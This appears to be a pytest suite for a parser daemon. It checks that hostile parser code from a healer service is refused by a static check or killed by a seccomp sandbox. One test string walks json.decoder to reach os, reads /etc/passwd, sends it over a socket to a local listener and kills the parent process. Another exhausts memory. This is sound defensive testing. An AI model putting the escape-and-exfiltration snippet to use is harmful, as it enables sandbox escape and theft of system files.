"""Parsers as code through the real daemon: hostile healer answers, and a system that cannot confine.

The daemon is a real subprocess driven by the real healerctl; the healer is a local HTTP server.
"""

from __future__ import annotations

import json
import socket
import threading

import pytest

from tests.support.daemon import db_rows
from tests.support.external_heal import (
    add_and_break,
    assert_running,
    code_answer,
    fix_rows,
    healer_calls,
    healer_config,
    production_versions,
)
from tests.support.healer_server import HealerServer
from tests.support.sitepages import LISTING_BP, write_blueprint

CODE_BP = dict(LISTING_BP, parser=(
    "from selectolax.lexbor import LexborHTMLParser\n\n"
    "def parse(html):\n"
    "    rows = LexborHTMLParser(html).css('table.stats tr.player')\n"
    "    return [{'name': r.css_first('td.name').text(), 'score': r.css_first('td.score').text()} for r in rows]\n"))


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection made to it."""

    def __init__(self):
        self.hits: list = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                self.hits.append(self.sock.accept()[0])
            except OSError:
                return

    def close(self):
        self.sock.close()


def bypass_parser(port: int) -> str:
    """The attack that once passed the static check: a submodule import walking to `os`."""
    return ("from json import decoder\n\n"
            "def parse(html):\n"
            "    os = decoder.re.enum.sys.modules['os']\n"
            "    secret = os.read(os.open('/etc/passwd', 0), 4096)\n"
            f"    s = decoder.re.enum.sys.modules['socket'].create_connection(('127.0.0.1', {port}))\n"
            "    s.sendall(secret)\n"
            "    os.kill(os.getppid(), 9)\n"
            "    return [{'name': 'x', 'score': '1'}]\n")


# Passes the static check; at run time it lists a module's names, then exhausts its memory.
RUNTIME_HOSTILE = ("import json\n\n"
                   "def parse(html):\n"
                   "    found = [k for k in dir(json) if k.startswith('d')]\n"
                   "    hoard = []\n"
                   "    while True:\n"
                   "        hoard.append('x' * 10 ** 6)\n")


@pytest.mark.parametrize("kind", ["refused-by-the-static-check", "killed-at-run-time"])
def test_a_hostile_parser_from_the_healer_is_rejected_and_production_stays(kind, site, daemon_factory, tmp_path):
    listener = Listener()
    code = bypass_parser(listener.port) if kind == "refused-by-the-static-check" else RUNTIME_HOSTILE
    healer = HealerServer(lambda req: code_answer({"parser.py": code}))
    try:
        d = daemon_factory(healer_config(healer.url, attempts=1)).start()
        add_and_break(d, site, tmp_path)
        st = d.wait_for(lambda: (s := d.ctl_json("status", "stats"))["state"] == "QUARANTINED" and s, timeout=90,
                        what="the hostile candidate to be rejected")
        assert st["version"] == 1 and production_versions(d) == [1]
        fixes = fix_rows(d)
        assert [(f["strategy"], f["outcome"], f["deployed_to"]) for f in fixes] == [("external", "rejected", "FAILED")]
        rejected = db_rows(d, "SELECT version, origin FROM parser_versions WHERE source_name = 'stats' "
                              "AND status = 'rejected'")
        calls = healer_calls(d)
        if kind == "refused-by-the-static-check":
            assert calls[0]["outcome"] == "refused" and "json.decoder" in calls[0]["reason"], calls
            assert rejected == []
        else:
            assert calls[0]["outcome"] == "healed", calls
            assert [(r["version"], r["origin"]) for r in rejected] == [(2, "external")]
        prod = db_rows(d, "SELECT body FROM parser_versions WHERE source_name = 'stats' AND status = 'production'")
        assert "parser" not in json.loads(prod[0]["body"]) or not json.loads(prod[0]["body"])["parser"]
        assert listener.hits == []
        assert_running(d)
    finally:
        healer.stop()
        listener.close()


def test_where_the_kernel_cannot_confine_code_parsers_are_refused_and_selectors_work(site, daemon_factory,
                                                                                     tmp_path):
    # A libseccomp that cannot be loaded stands for a system without seccomp.
    healer = HealerServer(lambda req: code_answer({"parser.py": CODE_BP["parser"]}))
    try:
        d = daemon_factory(healer_config(healer.url, attempts=1),
                           env={"HEALERD_LIBSECCOMP": str(tmp_path / "no-such-libseccomp.so")}).start()
        d.wait_for(lambda: "parsers as code are refused" in d.log(), what="the start-up line")
        assert d.log().count("parsers as code are refused") == 1
        site.page("/code", "<table class='stats'></table>")
        r = d.ctl("add", "coded", "--blueprint", write_blueprint(tmp_path / "coded.json", site.url("/code"), CODE_BP))
        assert r.returncode != 0
        lines = [line for line in r.stderr.splitlines() if line.strip()]
        assert len(lines) == 1 and "code parsers are refused here" in lines[0], r.stderr
        # Selector blueprints are unaffected; a healer's parser.py is refused with the same reason.
        add_and_break(d, site, tmp_path)
        d.wait_for(lambda: healer_calls(d), what="the healer call")
        call = healer_calls(d)[0]
        assert call["outcome"] == "refused" and "cannot confine" in call["reason"], call
        assert production_versions(d) == [1]
        assert_running(d)
    finally:
        healer.stop()


def test_a_confining_daemon_logs_its_layers_and_runs_a_code_parser(site, daemon_factory, tmp_path):
    d = daemon_factory().start()
    d.wait_for(lambda: "parsers as code run confined" in d.log(), what="the start-up line")
    line = next(x for x in d.log().splitlines() if "parsers as code run confined" in x)
    assert "seccomp" in line and "no_new_privs" in line
    from tests.support.sitepages import ROWS, listing_v1

    site.page("/code", listing_v1())
    r = d.ctl("add", "coded", "--blueprint", write_blueprint(tmp_path / "coded.json", site.url("/code"), CODE_BP))
    assert r.returncode == 0, r.stderr
    assert d.ctl_json("run", "coded")["ok"] is True
    rec = d.ctl_json("records", "coded")[0]
    assert rec["data"][0]["name"] == ROWS[0][0]
